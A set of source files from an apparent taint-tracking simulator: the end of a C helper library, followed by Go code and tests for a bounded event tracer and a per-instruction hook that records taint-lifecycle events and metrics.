}

int strncmp(char *a, char *b, int n) {
	int i = 0;
	while (i < n && a[i] && a[i] == b[i]) i++;
	if (i == n) return 0;
	return a[i] - b[i];
}

int tolower_c(int c) {
	if (c >= 'A' && c <= 'Z') return c + 32;
	return c;
}

int strcasecmp(char *a, char *b) {
	int i = 0;
	while (a[i] && tolower_c(a[i]) == tolower_c(b[i])) i++;
	return tolower_c(a[i]) - tolower_c(b[i]);
}

// strstr_at returns the index of the first occurrence of needle in
// haystack, or -1.
int strstr_at(char *hay, char *needle) {
	int n = strlen(hay);
	int m = strlen(needle);
	int i;
	for (i = 0; i + m <= n; i++) {
		if (strncmp(hay + i, needle, m) == 0) return i;
	}
	return -1;
}

char *memcpy(char *dst, char *src, int n) {
	int i;
	for (i = 0; i < n; i++) dst[i] = src[i];
	return dst;
}

char *memset(char *dst, int c, int n) {
	int i;
	for (i = 0; i < n; i++) dst[i] = c;
	return dst;
}

int memcmp_b(char *a, char *b, int n) {
	int i;
	for (i = 0; i < n; i++) {
		if (a[i] != b[i]) return a[i] - b[i];
	}
	return 0;
}

// ---------------------------------------------------------------------------
// Conversions.

int atoi(char *s) {
	int v = 0;
	int i = 0;
	int neg = 0;
	while (s[i] == ' ') i++;
	if (s[i] == '-') { neg = 1; i++; }
	while (s[i] >= '0' && s[i] <= '9') {
		v = v * 10 + (s[i] - '0');
		i++;
	}
	if (neg) return -v;
	return v;
}

// itoa writes the decimal form of v into buf and returns its length.
int itoa(int v, char *buf) {
	char tmp[24];
	int i = 0;
	int n = 0;
	int neg = 0;
	if (v < 0) { neg = 1; v = -v; }
	if (v == 0) { tmp[i] = '0'; i++; }
	while (v > 0) {
		tmp[i] = '0' + v % 10;
		v = v / 10;
		i++;
	}
	if (neg) { buf[n] = '-'; n++; }
	while (i > 0) {
		i--;
		buf[n] = tmp[i];
		n++;
	}
	buf[n] = 0;
	return n;
}

// ---------------------------------------------------------------------------
// Output helpers.

void print_str(char *s) {
	write(1, s, strlen(s));
}

void print_int(int v) {
	char buf[24];
	itoa(v, buf);
	print_str(buf);
}

void println(char *s) {
	print_str(s);
	putc('\n');
}

// itohex writes the hexadecimal form of v (no prefix) and returns its
// length.
int itohex(int v, char *buf) {
	char digits[17] = "0123456789abcdef";
	char tmp[20];
	int i = 0;
	int n = 0;
	if (v == 0) { buf[0] = '0'; buf[1] = 0; return 1; }
	int neg = 0;
	if (v < 0) { neg = 1; v = -v; }
	while (v > 0) {
		tmp[i] = digits[v & 15];
		v = v >> 4;
		i++;
	}
	if (neg) { buf[n] = '-'; n++; }
	while (i > 0) { i--; buf[n] = tmp[i]; n++; }
	buf[n] = 0;
	return n;
}

// atoihex parses a hexadecimal number (optionally with 0x prefix).
int atoihex(char *s) {
	int i = 0;
	int v = 0;
	if (s[0] == '0' && (s[1] == 'x' || s[1] == 'X')) i = 2;
	while (s[i]) {
		char c = s[i];
		if (c >= '0' && c <= '9') v = v * 16 + (c - '0');
		else if (c >= 'a' && c <= 'f') v = v * 16 + (c - 'a' + 10);
		else if (c >= 'A' && c <= 'F') v = v * 16 + (c - 'A' + 10);
		else break;
		i++;
	}
	return v;
}

// ---------------------------------------------------------------------------
// Miscellaneous helpers.

int abs_i(int v) {
	if (v < 0) return -v;
	return v;
}

int min_i(int a, int b) {
	if (a < b) return a;
	return b;
}

int max_i(int a, int b) {
	if (a > b) return a;
	return b;
}

int startswith(char *s, char *prefix) {
	int i = 0;
	while (prefix[i]) {
		if (s[i] != prefix[i]) return 0;
		i++;
	}
	return 1;
}

int endswith(char *s, char *suffix) {
	int n = strlen(s);
	int m = strlen(suffix);
	if (m > n) return 0;
	return strcmp(s + n - m, suffix) == 0;
}

// strchr_at returns the index of the first c in s, or -1.
int strchr_at(char *s, int c) {
	int i = 0;
	while (s[i]) {
		if (s[i] == c) return i;
		i++;
	}
	return -1;
}

// strrchr_at returns the index of the last c in s, or -1.
int strrchr_at(char *s, int c) {
	int i = 0;
	int at = -1;
	while (s[i]) {
		if (s[i] == c) at = i;
		i++;
	}
	return at;
}

// str_tolower lowercases s in place and returns its length.
int str_tolower(char *s) {
	int i = 0;
	while (s[i]) {
		s[i] = tolower_c(s[i]);
		i++;
	}
	return i;
}

// ---------------------------------------------------------------------------
// Sorting and searching over int arrays.

void swap_ints(int *a, int i, int j) {
	int t = a[i];
	a[i] = a[j];
	a[j] = t;
}

// qsort_ints sorts a[lo..hi] in place (recursive quicksort with a
// median-of-ends pivot and insertion sort for short runs).
void qsort_ints(int *a, int lo, int hi) {
	if (hi - lo < 8) {
		int i;
		for (i = lo + 1; i <= hi; i++) {
			int v = a[i];
			int j = i - 1;
			while (j >= lo && a[j] > v) {
				a[j + 1] = a[j];
				j--;
			}
			a[j + 1] = v;
		}
		return;
	}
	int mid = (lo + hi) / 2;
	if (a[mid] < a[lo]) swap_ints(a, lo, mid);
	if (a[hi] < a[lo]) swap_ints(a, lo, hi);
	if (a[hi] < a[mid]) swap_ints(a, mid, hi);
	int pivot = a[mid];
	int i = lo;
	int j = hi;
	while (i <= j) {
		while (a[i] < pivot) i++;
		while (a[j] > pivot) j--;
		if (i <= j) {
			swap_ints(a, i, j);
			i++;
			j--;
		}
	}
	if (lo < j) qsort_ints(a, lo, j);
	if (i < hi) qsort_ints(a, i, hi);
}

// bsearch_ints returns the index of v in sorted a[0..n), or -1.
int bsearch_ints(int *a, int n, int v) {
	int lo = 0;
	int hi = n - 1;
	while (lo <= hi) {
		int mid = (lo + hi) / 2;
		if (a[mid] == v) return mid;
		if (a[mid] < v) lo = mid + 1;
		else hi = mid - 1;
	}
	return -1;
}

// issorted_ints reports whether a[0..n) is non-decreasing.
int issorted_ints(int *a, int n) {
	int i;
	for (i = 1; i < n; i++) {
		if (a[i - 1] > a[i]) return 0;
	}
	return 1;
}
`
