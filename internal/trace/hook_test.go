package trace

import (
	"strings"
	"testing"

	"shift/internal/asm"
	"shift/internal/isa"
	"shift/internal/machine"
	"shift/internal/mem"
	"shift/internal/metrics"
)

type hookOS struct{}

func (hookOS) Syscall(m *machine.Machine, num int64) (uint64, *machine.Trap) {
	if num == isa.SysExit {
		m.Halt(m.GR[isa.RegArg0])
		return 0, nil
	}
	return 0, &machine.Trap{Kind: machine.TrapHostError, PC: m.PC, Ins: "syscall"}
}

// runTraced executes src on a fresh machine with the hook attached.
func runTraced(t *testing.T, src string) (*Tracer, *metrics.Registry) {
	t.Helper()
	p, err := asm.Assemble(src, asm.Options{})
	if err != nil {
		t.Fatalf("assemble: %v", err)
	}
	m := mem.New()
	m.MapRegion(0, 0)
	m.MapRegion(1, 0)
	m.MapRegion(2, 0)
	mach := machine.New(p, m)
	mach.OS = hookOS{}
	mach.GR[isa.RegSP] = int64(mem.Addr(2, 0x10000))
	tr := New(0)
	reg := metrics.NewRegistry()
	h := NewMachineHook(tr, reg)
	mach.Hook = h
	if trap := mach.Run(); trap != nil {
		t.Fatal(trap)
	}
	h.Flush()
	return tr, reg
}

func kinds(evs []Event) []Kind {
	out := make([]Kind, len(evs))
	for i, ev := range evs {
		out[i] = ev.Kind
	}
	return out
}

func countKind(evs []Event, k Kind) int {
	n := 0
	for _, ev := range evs {
		if ev.Kind == k {
			n++
		}
	}
	return n
}

// One pass through the taint lifecycle the hook derives from retirement
// alone: a deferred speculative load, NaT propagation to a second
// register, a chk.s recovery, a region-0 (tag bitmap) store, the exit
// syscall, and the slice bracket.
func TestHookLifecycleEvents(t *testing.T) {
	tr, reg := runTraced(t, `
main:
	movl r9 = 0x3000000000000000   ; unmapped region 3
	ld8.s r3 = [r9]                ; defers the fault into a NaT token
	mov r4 = r3                    ; propagates the token
	chk.s r3, fix                  ; sees the token, branches to recovery
	br done
fix:
	movl r3 = 0
done:
	movl r11 = 8                   ; region-0 address = tag bitmap
	st8 [r11] = r3
	mov r32 = r0
	syscall 1
`)
	evs := tr.Events()

	if n := countKind(evs, KindSpecDefer); n != 1 {
		t.Errorf("%d spec-defer events, want 1 (events: %v)", n, kinds(evs))
	}
	if n := countKind(evs, KindNaTSet); n != 1 {
		t.Errorf("%d nat-set events, want 1 (the mov propagation)", n)
	}
	if n := countKind(evs, KindChkRecover); n != 1 {
		t.Errorf("%d chk-recover events, want 1", n)
	}
	if n := countKind(evs, KindTagWrite); n != 1 {
		t.Errorf("%d tag-write events, want 1", n)
	}
	if n := countKind(evs, KindSyscall); n != 1 {
		t.Errorf("%d syscall events, want 1", n)
	}
	if countKind(evs, KindSliceBegin) != 1 || countKind(evs, KindSliceEnd) != 1 {
		t.Errorf("slice bracket missing: %v", kinds(evs))
	}
	if evs[0].Kind != KindSliceBegin || evs[len(evs)-1].Kind != KindSliceEnd {
		t.Errorf("slice events do not bracket the run: %v", kinds(evs))
	}

	// Field sanity on the interesting ones.
	for _, ev := range evs {
		switch ev.Kind {
		case KindSpecDefer:
			if ev.Reg != 3 || ev.Addr != 0x3000000000000000 {
				t.Errorf("spec-defer fields: %+v", ev)
			}
		case KindNaTSet:
			if ev.Reg != 4 {
				t.Errorf("nat-set register = r%d, want r4", ev.Reg)
			}
		case KindTagWrite:
			if mem.Region(ev.Addr) != 0 {
				t.Errorf("tag-write outside region 0: %+v", ev)
			}
		case KindSyscall:
			if ev.Name != "exit" || ev.N == 0 {
				t.Errorf("syscall event fields: %+v", ev)
			}
		case KindSliceEnd:
			if ev.N == 0 {
				t.Error("slice end carries zero occupancy")
			}
		}
	}

	// The counters agree with the event stream.
	if got := reg.Counter("shift_spec_defers_total").Value(); got != 1 {
		t.Errorf("shift_spec_defers_total = %d", got)
	}
	if got := reg.Counter("shift_tag_writes_total").Value(); got != 1 {
		t.Errorf("shift_tag_writes_total = %d", got)
	}
	if got := reg.Counter("shift_chk_recoveries_total").Value(); got != 1 {
		t.Errorf("shift_chk_recoveries_total = %d", got)
	}
	if got := reg.Counter("shift_slices_total").Value(); got != 1 {
		t.Errorf("shift_slices_total = %d", got)
	}
}

// A predicated-off instruction retires without architectural effect; the
// hook must not mistake its stale pre-state for an event.
func TestHookIgnoresSquashedInstructions(t *testing.T) {
	tr, _ := runTraced(t, `
main:
	movl r11 = 8
	cmpi.gt p6, p7 = r0, 10   ; p6 false, p7 true
	(p6) st8 [r11] = r0       ; squashed region-0 store
	mov r32 = r0
	syscall 1
`)
	if n := countKind(tr.Events(), KindTagWrite); n != 0 {
		t.Errorf("squashed store produced %d tag-write events", n)
	}
}

// A successful (non-deferring) speculative load and a region-1 store
// must stay silent: events fire on taint activity, not on opcodes.
func TestHookSilentOnCleanOperations(t *testing.T) {
	tr, _ := runTraced(t, `
main:
	movl r10 = 0x2000000000000100   ; region-1 scratch
	st8 [r10] = r0
	ld8.s r3 = [r10]                ; mapped: loads fine, no NaT
	mov r4 = r3
	mov r32 = r0
	syscall 1
`)
	evs := tr.Events()
	for _, k := range []Kind{KindSpecDefer, KindNaTSet, KindTagWrite, KindChkRecover} {
		if n := countKind(evs, k); n != 0 {
			t.Errorf("clean run produced %d %s events", n, k)
		}
	}
}

// The hook works tracer-less (metrics only) and registry-less (trace
// only) — the constructor's nil contract.
func TestHookNilHalves(t *testing.T) {
	p, err := asm.Assemble(`
main:
	movl r11 = 8
	st8 [r11] = r0
	mov r32 = r0
	syscall 1
`, asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	run := func(h *MachineHook) {
		m := mem.New()
		m.MapRegion(0, 0)
		m.MapRegion(2, 0)
		mach := machine.New(p, m)
		mach.OS = hookOS{}
		mach.Hook = h
		if trap := mach.Run(); trap != nil {
			t.Fatal(trap)
		}
		h.Flush()
	}

	reg := metrics.NewRegistry()
	run(NewMachineHook(nil, reg))
	if got := reg.Counter("shift_tag_writes_total").Value(); got != 1 {
		t.Errorf("metrics-only hook counted %d tag writes", got)
	}

	tr := New(0)
	run(NewMachineHook(tr, nil))
	if n := countKind(tr.Events(), KindTagWrite); n != 1 {
		t.Errorf("trace-only hook recorded %d tag writes", n)
	}
}

// Syscall latency lands in the per-syscall histogram with a name label.
func TestHookSyscallHistogram(t *testing.T) {
	_, reg := runTraced(t, `
main:
	mov r32 = r0
	syscall 1
`)
	h := reg.Histogram(`shift_syscall_cycles{sys="exit"}`, nil)
	if h.Count() != 1 {
		t.Errorf("exit histogram has %d samples, want 1", h.Count())
	}
	var sb strings.Builder
	if err := reg.WritePrometheus(&sb); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(sb.String(), `shift_syscall_cycles_bucket{sys="exit",le="+Inf"} 1`) {
		t.Errorf("exposition missing the labeled histogram:\n%s", sb.String())
	}
}

// driveHook builds a bare machine suitable for feeding the hook's
// PreStep/PostStep seam directly, without running the interpreter.
func bareHookMachine(t *testing.T, p *isa.Program) *machine.Machine {
	t.Helper()
	m := mem.New()
	m.MapRegion(1, 0)
	m.MapRegion(2, 0)
	return machine.New(p, m)
}

// Two machines sharing one hook and one TID — a tracer reused across
// runs, or two guests feeding one observer — must still get a slice
// boundary at the handoff. The hook used to key boundaries on TID
// alone, so when the second machine reused TID 0 its retirements were
// silently merged into the first machine's slice: one begin/end pair
// and a slice count of 1 instead of 2.
func TestHookSliceBoundaryOnMachineChange(t *testing.T) {
	p, err := asm.Assemble("main:\n\tmov r1 = r0\n", asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	m1 := bareHookMachine(t, p)
	m2 := bareHookMachine(t, p)
	if m1.TID != m2.TID {
		t.Fatalf("fixture: TIDs differ (%d vs %d); the test needs reuse", m1.TID, m2.TID)
	}

	tr := New(0)
	reg := metrics.NewRegistry()
	h := NewMachineHook(tr, reg)
	ins := &p.Text[0]
	h.PreStep(m1, ins)
	if err := h.PostStep(m1, ins); err != nil {
		t.Fatal(err)
	}
	h.PreStep(m2, ins)
	if err := h.PostStep(m2, ins); err != nil {
		t.Fatal(err)
	}
	h.Flush()

	evs := tr.Events()
	if b, e := countKind(evs, KindSliceBegin), countKind(evs, KindSliceEnd); b != 2 || e != 2 {
		t.Errorf("machine change inside one TID: %d begins / %d ends, want 2/2 (events: %v)", b, e, kinds(evs))
	}
	if got := reg.Counter("shift_slices_total").Value(); got != 2 {
		t.Errorf("shift_slices_total = %d, want 2", got)
	}
}

// The boundary must fire even when the new machine's first retirement
// is predicated off: boundary detection precedes the squash check, and
// a squashed retirement is still evidence the thread is running.
func TestHookSliceBoundarySquashedFirstRetirement(t *testing.T) {
	p, err := asm.Assemble("main:\n\tmov r1 = r0\n", asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	m1 := bareHookMachine(t, p)
	m2 := bareHookMachine(t, p)

	tr := New(0)
	h := NewMachineHook(tr, metrics.NewRegistry())
	ins := &p.Text[0]
	h.PreStep(m1, ins)
	if err := h.PostStep(m1, ins); err != nil {
		t.Fatal(err)
	}
	// m2's first retirement is squashed: qp=6 and PR[6] is false.
	squashed := isa.Instruction{Op: isa.OpMov, Dest: 1, Qp: 6}
	h.PreStep(m2, &squashed)
	if err := h.PostStep(m2, &squashed); err != nil {
		t.Fatal(err)
	}
	h.Flush()

	if b := countKind(tr.Events(), KindSliceBegin); b != 2 {
		t.Errorf("%d slice begins, want 2 (squashed handoff must still switch slices)", b)
	}
}

// Flush resets machine identity: the same machine retiring again after
// a Flush opens a fresh slice rather than resurrecting the closed one.
func TestHookFlushResetsMachineIdentity(t *testing.T) {
	p, err := asm.Assemble("main:\n\tmov r1 = r0\n", asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	m := bareHookMachine(t, p)
	tr := New(0)
	h := NewMachineHook(tr, metrics.NewRegistry())
	ins := &p.Text[0]
	h.PreStep(m, ins)
	if err := h.PostStep(m, ins); err != nil {
		t.Fatal(err)
	}
	h.Flush()
	h.PreStep(m, ins)
	if err := h.PostStep(m, ins); err != nil {
		t.Fatal(err)
	}
	h.Flush()
	if b, e := countKind(tr.Events(), KindSliceBegin), countKind(tr.Events(), KindSliceEnd); b != 2 || e != 2 {
		t.Errorf("flush/reuse: %d begins / %d ends, want 2/2", b, e)
	}
}
