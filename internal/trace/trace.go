// Package trace is the flight recorder: a nil-gated, bounded ring buffer
// of taint-lifecycle events. Production DIFT lives or dies on selective,
// low-overhead tracing — the paper's measured claims (slowdown factors,
// instruction-mix deltas, the §3.3.4/§4.4 profiling-guided decisions) all
// presume you can see what the tracking hardware did. The recorder keeps
// the most recent events (overwriting the oldest and counting the drops),
// so a policy violation's forensic report can carry the provenance chain
// that led to it without unbounded memory.
//
// Events are exported two ways: JSONL (one JSON object per line, the
// machine-readable archive format) and the Chrome trace-event format that
// Perfetto / chrome://tracing load directly, with scheduler slices and
// syscalls as duration events and everything else as instants.
package trace

import (
	"encoding/json"
	"fmt"
	"io"
	"sync"
)

// Kind classifies a lifecycle event.
type Kind uint8

// Event kinds. The set follows the life of a tag: birth at an input
// syscall, propagation (a speculative load manufacturing a token, a NaT
// bit reaching a new register, a tag-bitmap write), consumption (chk.s
// recoveries, policy checks), and death or verdict (untaint, violation) —
// plus the scheduler and OS boundary events that situate them in time.
const (
	KindTaint       Kind = iota + 1 // taint birth at an input syscall
	KindUntaint                     // explicit clearing of a range
	KindHostWrite                   // host data transfer into guest memory
	KindSpecDefer                   // speculative load deferred a fault into a NaT token
	KindNaTSet                      // a register's NaT bit went clean -> set
	KindTagWrite                    // store into the region-0 tag bitmap
	KindChkRecover                  // chk.s observed a token and branched to recovery
	KindPolicyCheck                 // a sink check ran (violating or not)
	KindViolation                   // a policy violation stopped the run
	KindSliceBegin                  // scheduler slice started on a thread
	KindSliceEnd                    // scheduler slice ended (N = cycles occupied)
	KindSpawn                       // a guest thread was created (N = child tid)
	KindSyscall                     // syscall retired (N = cycles of latency)
)

// String names the kind (also its JSON encoding).
func (k Kind) String() string {
	switch k {
	case KindTaint:
		return "taint"
	case KindUntaint:
		return "untaint"
	case KindHostWrite:
		return "host-write"
	case KindSpecDefer:
		return "spec-defer"
	case KindNaTSet:
		return "nat-set"
	case KindTagWrite:
		return "tag-write"
	case KindChkRecover:
		return "chk-recover"
	case KindPolicyCheck:
		return "policy-check"
	case KindViolation:
		return "violation"
	case KindSliceBegin:
		return "slice-begin"
	case KindSliceEnd:
		return "slice-end"
	case KindSpawn:
		return "spawn"
	case KindSyscall:
		return "syscall"
	}
	return fmt.Sprintf("kind(%d)", uint8(k))
}

// MarshalJSON encodes the kind as its name.
func (k Kind) MarshalJSON() ([]byte, error) { return json.Marshal(k.String()) }

// UnmarshalJSON decodes a kind name (tooling that re-reads JSONL).
func (k *Kind) UnmarshalJSON(b []byte) error {
	var s string
	if err := json.Unmarshal(b, &s); err != nil {
		return err
	}
	for c := KindTaint; c <= KindSyscall; c++ {
		if c.String() == s {
			*k = c
			return nil
		}
	}
	return fmt.Errorf("trace: unknown event kind %q", s)
}

// Event is one recorded lifecycle event. Cycle is the simulated cycle
// counter of the thread that produced it — the deterministic clock every
// export uses as its timebase.
type Event struct {
	Cycle uint64 `json:"cycle"`
	TID   int    `json:"tid"`
	PC    int    `json:"pc"`
	Kind  Kind   `json:"kind"`
	Addr  uint64 `json:"addr,omitempty"` // guest address (data or tag byte)
	N     uint64 `json:"n,omitempty"`    // length / latency / child tid
	Reg   uint8  `json:"reg,omitempty"`  // register, for NaT events
	Name  string `json:"name,omitempty"` // channel, policy, sink or syscall name
}

// DefaultDepth is the ring capacity New uses for depth <= 0.
const DefaultDepth = 1 << 14

// Tracer is the bounded ring buffer. A nil *Tracer is a valid no-op
// recorder: every method works and records nothing, so call sites gate
// on one nil check and nothing else.
type Tracer struct {
	mu   sync.Mutex
	ring []Event
	seq  uint64 // events ever emitted; ring[seq%len] is the next slot
}

// New builds a tracer retaining the most recent depth events
// (DefaultDepth when depth <= 0).
func New(depth int) *Tracer {
	if depth <= 0 {
		depth = DefaultDepth
	}
	return &Tracer{ring: make([]Event, depth)}
}

// Emit records one event, overwriting the oldest when the ring is full.
func (t *Tracer) Emit(ev Event) {
	if t == nil {
		return
	}
	t.mu.Lock()
	t.ring[t.seq%uint64(len(t.ring))] = ev
	t.seq++
	t.mu.Unlock()
}

// Total returns the number of events ever emitted.
func (t *Tracer) Total() uint64 {
	if t == nil {
		return 0
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.seq
}

// Dropped returns how many of the emitted events have been overwritten —
// the flight recorder keeps the tail, so drops are always the oldest.
func (t *Tracer) Dropped() uint64 {
	if t == nil {
		return 0
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.droppedLocked()
}

func (t *Tracer) droppedLocked() uint64 {
	if n := uint64(len(t.ring)); t.seq > n {
		return t.seq - n
	}
	return 0
}

// Events returns the retained events, oldest first.
func (t *Tracer) Events() []Event {
	return t.Tail(-1)
}

// Tail returns the most recent n retained events, oldest first (all of
// them when n < 0 or n exceeds the retained count).
func (t *Tracer) Tail(n int) []Event {
	if t == nil {
		return nil
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	held := t.seq
	if cap := uint64(len(t.ring)); held > cap {
		held = cap
	}
	if n >= 0 && uint64(n) < held {
		held = uint64(n)
	}
	out := make([]Event, held)
	for i := uint64(0); i < held; i++ {
		out[i] = t.ring[(t.seq-held+i)%uint64(len(t.ring))]
	}
	return out
}

// WriteJSONL writes the retained events as JSON Lines, oldest first.
func (t *Tracer) WriteJSONL(w io.Writer) error {
	enc := json.NewEncoder(w)
	for _, ev := range t.Events() {
		if err := enc.Encode(&ev); err != nil {
			return err
		}
	}
	return nil
}

// chromeEvent is one entry of the Chrome trace-event format. Cycles map
// to microseconds: the timebase is simulated anyway, and Perfetto's UI
// math expects microsecond "ts"/"dur" fields.
type chromeEvent struct {
	Name string         `json:"name"`
	Ph   string         `json:"ph"`
	TS   uint64         `json:"ts"`
	Dur  uint64         `json:"dur,omitempty"`
	PID  int            `json:"pid"`
	TID  int            `json:"tid"`
	S    string         `json:"s,omitempty"`
	Args map[string]any `json:"args,omitempty"`
}

// WriteChromeTrace writes the retained events in Chrome trace-event
// format (a {"traceEvents": [...]} object), loadable in Perfetto or
// chrome://tracing. Scheduler slices become B/E duration pairs, syscalls
// become complete ("X") events spanning their latency, and everything
// else becomes a thread-scoped instant.
func (t *Tracer) WriteChromeTrace(w io.Writer) error {
	events := t.Events()
	out := make([]chromeEvent, 0, len(events))
	for _, ev := range events {
		ce := chromeEvent{
			Name: ev.Kind.String(),
			TS:   ev.Cycle,
			PID:  1,
			TID:  ev.TID,
			Args: map[string]any{"pc": ev.PC},
		}
		if ev.Name != "" {
			ce.Name = ev.Kind.String() + ":" + ev.Name
		}
		if ev.Addr != 0 {
			ce.Args["addr"] = fmt.Sprintf("%#x", ev.Addr)
		}
		if ev.N != 0 {
			ce.Args["n"] = ev.N
		}
		switch ev.Kind {
		case KindSliceBegin:
			ce.Ph, ce.Name = "B", "slice"
		case KindSliceEnd:
			ce.Ph, ce.Name = "E", "slice"
			// An end stamped at the slice's last retirement: ts already
			// carries the cycle, args carry the occupancy.
		case KindSyscall:
			ce.Ph = "X"
			ce.Dur = ev.N
			if ce.TS >= ev.N {
				ce.TS -= ev.N // span covers the syscall, ending at retirement
			}
		default:
			ce.Ph, ce.S = "i", "t"
		}
		out = append(out, ce)
	}
	enc := json.NewEncoder(w)
	return enc.Encode(map[string]any{"traceEvents": out})
}
