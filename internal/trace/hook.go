package trace

import (
	"fmt"

	"shift/internal/isa"
	"shift/internal/machine"
	"shift/internal/mem"
	"shift/internal/metrics"
)

// syscallBuckets are the latency-histogram bucket bounds, in simulated
// cycles. Syscall costs in this simulator span a few cycles (putc) to
// tens of thousands (a full-policy check over a large buffer).
var syscallBuckets = []uint64{8, 32, 128, 512, 2048, 8192, 32768}

// MachineHook is the per-retirement observer that turns architectural
// effects into trace events and metrics. It derives everything from the
// PreStep/PostStep seam — the interpreter itself is untouched, and a run
// without a hook pays only the existing nil check.
//
// The hook is shared by every thread of a scheduler (Spawn copies the
// Hook field), and the scheduler runs threads from one goroutine, so the
// pre-state scratch fields below need no locking; the Tracer and the
// metrics instruments do their own synchronization.
type MachineHook struct {
	tr  *Tracer
	reg *metrics.Registry

	// Aggregate instruments, fetched once at construction.
	tagWrites   *metrics.Counter
	specDefers  *metrics.Counter
	chkRecovers *metrics.Counter
	natSets     *metrics.Counter
	slices      *metrics.Counter

	// Label-split instruments, created lazily (syscalls and spawns are
	// rare next to retirements).
	sysHist     map[int64]*metrics.Histogram
	sliceCycles map[int]*metrics.Counter

	// Pre-state captured by PreStep for the matching PostStep.
	preSquashed bool
	preNaT      bool
	preAddr     uint64
	preCycles   uint64

	// Slice tracking: the last machine observed retiring (identity, not
	// just TID — TIDs are reused when a hook outlives a run or serves
	// several machines), where its current slice started, and its clock
	// at the latest retirement.
	lastMach   *machine.Machine
	lastTID    int
	lastPC     int
	lastCycles uint64
	sliceStart uint64
}

// NewMachineHook builds a hook feeding tr and reg; either may be nil
// (a nil Tracer records nothing, a nil Registry counts into orphaned
// instruments), so one constructor covers trace-only, metrics-only and
// combined runs.
func NewMachineHook(tr *Tracer, reg *metrics.Registry) *MachineHook {
	return &MachineHook{
		tr:          tr,
		reg:         reg,
		tagWrites:   reg.Counter("shift_tag_writes_total"),
		specDefers:  reg.Counter("shift_spec_defers_total"),
		chkRecovers: reg.Counter("shift_chk_recoveries_total"),
		natSets:     reg.Counter("shift_nat_sets_total"),
		slices:      reg.Counter("shift_slices_total"),
		sysHist:     make(map[int64]*metrics.Histogram),
		sliceCycles: make(map[int]*metrics.Counter),
		lastTID:     -1,
	}
}

// Tracer returns the tracer the hook feeds (nil for metrics-only hooks).
func (h *MachineHook) Tracer() *Tracer { return h.tr }

// PreStep implements machine.StepHook: capture the pre-state PostStep
// will compare against, and detect slice boundaries by TID change.
func (h *MachineHook) PreStep(m *machine.Machine, ins *isa.Instruction) {
	if m != h.lastMach || m.TID != h.lastTID {
		h.sliceSwitch(m)
	}
	h.preSquashed = ins.Qp != 0 && !m.PR[ins.Qp]
	if h.preSquashed {
		return
	}
	if ins.Op.HasDest() {
		h.preNaT = m.NaT[ins.Dest]
	}
	switch {
	case ins.Op.IsMem():
		h.preAddr = uint64(m.GR[ins.Src1])
	case ins.Op == isa.OpSyscall:
		h.preCycles = m.Cycles
	}
}

// sliceSwitch closes the previous thread's slice and opens one for the
// thread now retiring. Detecting the boundary here — instead of hooking
// the scheduler — keeps the observability seam to StepHook alone.
func (h *MachineHook) sliceSwitch(m *machine.Machine) {
	if h.lastTID >= 0 {
		occ := h.lastCycles - h.sliceStart
		h.tr.Emit(Event{Cycle: h.lastCycles, TID: h.lastTID, PC: h.lastPC, Kind: KindSliceEnd, N: occ})
		h.sliceCycleCounter(h.lastTID).Add(occ)
	}
	h.tr.Emit(Event{Cycle: m.Cycles, TID: m.TID, PC: m.PC, Kind: KindSliceBegin})
	h.slices.Inc()
	h.lastMach = m
	h.lastTID = m.TID
	h.sliceStart = m.Cycles
	h.lastCycles = m.Cycles
	h.lastPC = m.PC
}

// Flush closes the trailing slice after a run completes. Safe to call
// repeatedly; a later retirement simply opens a new slice.
func (h *MachineHook) Flush() {
	if h.lastTID >= 0 {
		occ := h.lastCycles - h.sliceStart
		h.tr.Emit(Event{Cycle: h.lastCycles, TID: h.lastTID, PC: h.lastPC, Kind: KindSliceEnd, N: occ})
		h.sliceCycleCounter(h.lastTID).Add(occ)
		h.lastMach = nil
		h.lastTID = -1
	}
}

func (h *MachineHook) sliceCycleCounter(tid int) *metrics.Counter {
	c := h.sliceCycles[tid]
	if c == nil {
		c = h.reg.Counter(fmt.Sprintf("shift_slice_cycles_total{tid=%q}", fmt.Sprint(tid)))
		h.sliceCycles[tid] = c
	}
	return c
}

// PostStep implements machine.StepHook: classify what the retirement did
// to the taint machinery and record it.
func (h *MachineHook) PostStep(m *machine.Machine, ins *isa.Instruction) error {
	h.lastCycles = m.Cycles
	h.lastPC = m.PC
	if h.preSquashed {
		return nil
	}
	switch ins.Op {
	case isa.OpLdS:
		// A speculative load that deferred its fault left a NaT token in
		// the destination — the paper's core tag-propagation event.
		if ins.Dest != 0 && m.NaT[ins.Dest] {
			h.specDefers.Inc()
			h.tr.Emit(Event{Cycle: m.Cycles, TID: m.TID, PC: m.PC, Kind: KindSpecDefer, Addr: h.preAddr, Reg: ins.Dest})
		}
	case isa.OpChkS:
		// chk.s saw the token and redirected to recovery code (§2.2).
		if m.NaT[ins.Src1] {
			h.chkRecovers.Inc()
			h.tr.Emit(Event{Cycle: m.Cycles, TID: m.TID, PC: m.PC, Kind: KindChkRecover, Reg: ins.Src1})
		}
	case isa.OpSt, isa.OpStSpill, isa.OpCmpxchg:
		// Stores into region 0 maintain the tag bitmap (Figure 4); the
		// write volume is the cost the paper's §6.4 argues is cheap.
		if mem.Region(h.preAddr) == 0 {
			h.tagWrites.Inc()
			h.tr.Emit(Event{Cycle: m.Cycles, TID: m.TID, PC: m.PC, Kind: KindTagWrite, Addr: h.preAddr})
		}
	case isa.OpSyscall:
		lat := m.Cycles - h.preCycles
		h.syscallHistogram(ins.Imm).Observe(lat)
		h.tr.Emit(Event{Cycle: m.Cycles, TID: m.TID, PC: m.PC, Kind: KindSyscall, N: lat, Name: isa.SyscallName(ins.Imm)})
	default:
		if ins.Op.HasDest() && ins.Dest != 0 && !h.preNaT && m.NaT[ins.Dest] {
			h.natSets.Inc()
			h.tr.Emit(Event{Cycle: m.Cycles, TID: m.TID, PC: m.PC, Kind: KindNaTSet, Reg: ins.Dest})
		}
	}
	return nil
}

func (h *MachineHook) syscallHistogram(num int64) *metrics.Histogram {
	hg := h.sysHist[num]
	if hg == nil {
		hg = h.reg.Histogram(fmt.Sprintf("shift_syscall_cycles{sys=%q}", isa.SyscallName(num)), syscallBuckets)
		h.sysHist[num] = hg
	}
	return hg
}

// The hook must satisfy the machine's observer seam.
var _ machine.StepHook = (*MachineHook)(nil)
